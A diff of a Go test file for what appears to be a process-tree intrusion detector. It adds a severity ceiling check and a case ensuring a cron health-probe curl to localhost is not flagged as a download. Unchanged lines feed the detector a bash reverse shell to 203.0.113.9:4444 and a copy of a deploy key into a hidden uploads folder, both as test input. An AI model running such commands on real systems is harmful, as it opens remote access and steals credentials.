@@ -18,6 +18,7 @@ func TestPerMatchMeaning(t *testing.T) {
 		noAttack []string // techniques it must not carry
 		noTitle  string   // its title must not contain this
 		why      string   // its Why must contain this, when set
+		maxLevel Severity // its severity at most this, when set
 		stage    Stage    // its stage, when set
 	}
 	cases := []struct {
@@ -46,6 +47,11 @@ func TestPerMatchMeaning(t *testing.T) {
 			s.exec(301, 300, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/CRON", "-f")
 			return e.Observe(s.exec(302, 301, 33, "www-data", "/var/www", "/usr/bin/dash", "/bin/sh", "-c", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"), s.tree)
 		}, check{rule: "web-server-reverse-shell", noTitle: "Web Server", why: "cron"}},
+		{"a health probe's curl under cron", func(s *synth, e *Engine) []*Finding {
+			s.exec(300, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
+			s.exec(301, 300, 33, "www-data", "/var/www", "/usr/bin/dash", "/bin/sh", "-c", "curl -s -o /dev/null -m 5 http://127.0.0.1:3100/")
+			return e.Observe(s.exec(302, 301, 33, "www-data", "/var/www", "/usr/bin/curl", "curl", "-s", "-o", "/dev/null", "-m", "5", "http://127.0.0.1:3100/"), s.tree)
+		}, check{rule: "ingress-tool-download", noAttack: []string{"T1105"}, noTitle: "Download", maxLevel: SeverityLow}},
 		{"rm -rf of the chain's own files", func(s *synth, e *Engine) []*Finding {
 			// a tool dropped in a folder of its own, and a web shell
 			s.exec(201, 200, 33, "www-data", "/var/www/html/uploads", "/usr/bin/dash", "sh", "-c", "mkdir .t; cp /var/www/html/backup/deploy_key .t/k")
@@ -91,6 +97,9 @@ func TestPerMatchMeaning(t *testing.T) {
 			}
 			if !strings.Contains(f.Why, tc.want.why) {
 				t.Errorf("why %q, want it to say %q", f.Why, tc.want.why)
+			}
+			if tc.want.maxLevel != 0 && f.Severity > tc.want.maxLevel {
+				t.Errorf("severity %v, want at most %v", f.Severity, tc.want.maxLevel)
 			}
 			if tc.want.stage != 0 && f.Stage != tc.want.stage {
 				t.Errorf("stage %v, want %v", f.Stage, tc.want.stage)
